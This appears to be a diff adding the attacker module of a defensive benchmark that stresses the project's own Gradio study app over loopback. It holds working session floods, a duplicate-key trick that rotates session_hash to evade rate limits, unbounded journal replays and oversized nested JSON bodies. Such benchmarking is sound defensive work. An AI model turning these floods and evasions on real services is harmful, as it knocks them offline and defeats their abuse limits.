@@ -1,0 +1,178 @@
+"""The attack classes of ``bench_hostile.py``: what a stranger sends, back to back, from its own
+address (127.0.0.2: loopback accepts any 127/8 source, so the server's per-address limits see a
+different client than the honest participants on 127.0.0.1).
+
+Each attack runs until its deadline (or its request budget) and tallies ``route: outcome``. The
+faults (``disk_full``, ``ranker_down``) are not requests: ``bench_hostile.py`` switches them on
+and off through ``bench/faulty_app.py``'s control file.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import itertools
+import json
+import time
+from collections import Counter
+
+import httpx
+import numpy as np
+from study_traffic import journal, stroke_event
+
+from retrieval.ui.ui_client import UiApp, UiError, UiSession
+
+ATTACKER_ADDRESS = "127.0.0.2"
+# Every route a client can POST to, open or not: the oversized nested body is tried on each.
+POST_ROUTES = (
+    "/gradio_api/queue/join",
+    "/es/stroke",
+    "/gradio_api/call/rank",
+    "/gradio_api/run/rank",
+    "/gradio_api/component_server",
+    "/gradio_api/upload",
+    "/gradio_api/process_recording",
+    "/",
+)
+
+
+def attacker_client(connections: int) -> httpx.AsyncClient:
+    transport = httpx.AsyncHTTPTransport(
+        local_address=ATTACKER_ADDRESS, limits=httpx.Limits(max_connections=connections)
+    )
+    return httpx.AsyncClient(transport=transport, trust_env=False, timeout=30)
+
+
+async def _workers(n: int, deadline: float, budget: int, one) -> None:
+    """``n`` concurrent loops calling ``one(i)`` for i = 0, 1, ... until the deadline or ``budget`` calls."""
+    counter = itertools.count()
+
+    async def loop() -> None:
+        while time.monotonic() < deadline and (i := next(counter)) < budget:
+            await one(i)
+
+    await asyncio.gather(*(loop() for _ in range(n)))
+
+
+async def _post(client: httpx.AsyncClient, counts: Counter, label: str, url: str, **kwargs) -> None:
+    try:
+        counts[f"{label}: HTTP {(await client.post(url, **kwargs)).status_code}"] += 1
+    except httpx.HTTPError as exc:
+        counts[f"{label}: {type(exc).__name__}"] += 1
+
+
+async def session_flood(url: str, deadline: float, counts: Counter, sessions: int = 10_000) -> None:
+    """``sessions`` session creations the way the issue measured them: POST /component_server, each with a
+    new ``session_hash`` (Gradio creates state for each); 16 at a time."""
+    async with attacker_client(16) as client:
+
+        async def one(i: int) -> None:
+            body = {"session_hash": f"flood{i:06d}", "component_id": 1, "fn_name": "x", "data": None}
+            await _post(
+                client, counts, "POST /gradio_api/component_server", f"{url}/gradio_api/component_server", json=body
+            )
+
+        await _workers(16, deadline, sessions, one)
+
+
+async def rotating_identity(url: str, deadline: float, counts: Counter) -> None:
+    """Stroke events, each under a fresh ``session_hash`` after a decoy unescaped ``"session_hash"``
+    key: the bucket keys of the old limit. 8 at a time, as fast as answered."""
+    async with attacker_client(8) as client:
+        app = await UiApp.connect(client, url)
+        stroke = app.event("es-canvas", "stroke_end")
+        line = np.array([[10.0 + i, 20.0 + i, 10.0 * i] for i in range(5)])
+        payload = journal("attack", [stroke_event(1, line, 0.0)])
+
+        async def one(i: int) -> None:
+            body = {
+                "data": [payload, None],
+                "event_data": None,
+                "fn_index": stroke.fn_index,
+                "trigger_id": stroke.trigger_id,
+            }
+            text = '{"session_hash": "decoy", ' + json.dumps({**body, "session_hash": f"rot{i:07d}"})[1:]
+            headers = {"content-type": "application/json"}
+            await _post(
+                client,
+                counts,
+                "POST /gradio_api/queue/join",
+                f"{url}/gradio_api/queue/join",
+                content=text,
+                headers=headers,
+            )
+
+        await _workers(8, deadline, 10**9, one)
+
+
+async def journal_replay(url: str, deadline: float, counts: Counter, tabs: int = 4) -> None:
+    """Study sessions that re-send their journal with every earlier stroke turned into a ``clear`` and
+    five new 2,000-point strokes (within every per-request cap), to grow the log without bound."""
+    async with attacker_client(2 * tabs) as client:
+        app = await UiApp.connect(client, url)
+        start, stroke = app.event("Start", "click"), app.event("es-canvas", "stroke_end")
+        big = np.array([[10.0 + (i % 200), 20.0 + (i // 200), 5.0 * i] for i in range(2000)])
+
+        async def tab(n: int) -> None:
+            session = UiSession(client, app)
+            try:
+                out = await session.call(start, {"Participant id": f"X-replay-{n}", "Session id": "S1"})
+                token = app.output(out, "es-canvas", start)["trial"]
+            except (UiError, httpx.HTTPError, TypeError) as exc:
+                counts[f"replay Start: {type(exc).__name__} {getattr(exc, 'status', '')}"] += 1
+                return
+            seq = 0
+            while time.monotonic() < deadline:
+                events = [{"seq": s, "type": "clear", "t": 10.0 * s} for s in range(1, seq + 1)]
+                events += [stroke_event(seq + j, big, 1e4 * (seq + j)) for j in range(1, 6)]
+                try:
+                    await session.call(stroke, {"es-canvas": journal(token, events)}, timeout_s=60)
+                    counts["replayed journal: answered"] += 1
+                    seq += 5
+                except (UiError, httpx.HTTPError) as exc:
+                    counts[f"replayed journal: {getattr(exc, 'status', None) or type(exc).__name__}"] += 1
+                await asyncio.sleep(0.25)
+
+        await asyncio.gather(*(tab(n) for n in range(tabs)))
+
+
+async def nested_json(url: str, deadline: float, counts: Counter) -> None:
+    """A 3.3 MB body of nested JSON (and one nested 200 deep) on every route a client can POST to; 2 at a
+    time (the attacker shares the server's cores here: more would measure the loopback, not the server)."""
+    events = [{"seq": i, "points": [[1.5, 2.5, 3.5, 0.5]] * 50} for i in range(3000)]
+    wide = json.dumps({"data": [{"events": events}, 5, None], "fn_index": 3, "session_hash": "n"}).encode()
+    deep = json.dumps({"data": [json.loads("[" * 200 + "]" * 200)], "fn_index": 3, "session_hash": "n"}).encode()
+    bodies = [
+        (route, kind, body) for route in POST_ROUTES for kind, body in (("3 MB nested", wide), ("200 deep", deep))
+    ]
+    async with attacker_client(2) as client:
+
+        async def one(i: int) -> None:
+            route, kind, body = bodies[i % len(bodies)]
+            headers = {"content-type": "application/json"}
+            await _post(client, counts, f"POST {route} ({kind})", url + route, content=body, headers=headers)
+
+        await _workers(2, deadline, 10**9, one)
+
+
+ATTACKS = {
+    "session_flood": session_flood,
+    "rotating_identity": rotating_identity,
+    "journal_replay": journal_replay,
+    "nested_json": nested_json,
+}
+
+
+def attack_process(url: str, attack: str, duration_s: float, results) -> None:
+    """Entry point of the attacker's process: run ``attack``, put its outcome counts on ``results``."""
+
+    async def run() -> Counter:
+        counts: Counter = Counter()
+        began = time.monotonic()
+        try:
+            await ATTACKS[attack](url, began + duration_s, counts)
+        except Exception as exc:  # an attacker that crashed is part of the result, not a bench failure
+            counts[f"attacker crashed: {exc!r:.100}"] += 1
+        counts["(attacker wall s)"] = round(time.monotonic() - began, 1)
+        return counts
+
+    results.put(dict(asyncio.run(run())))
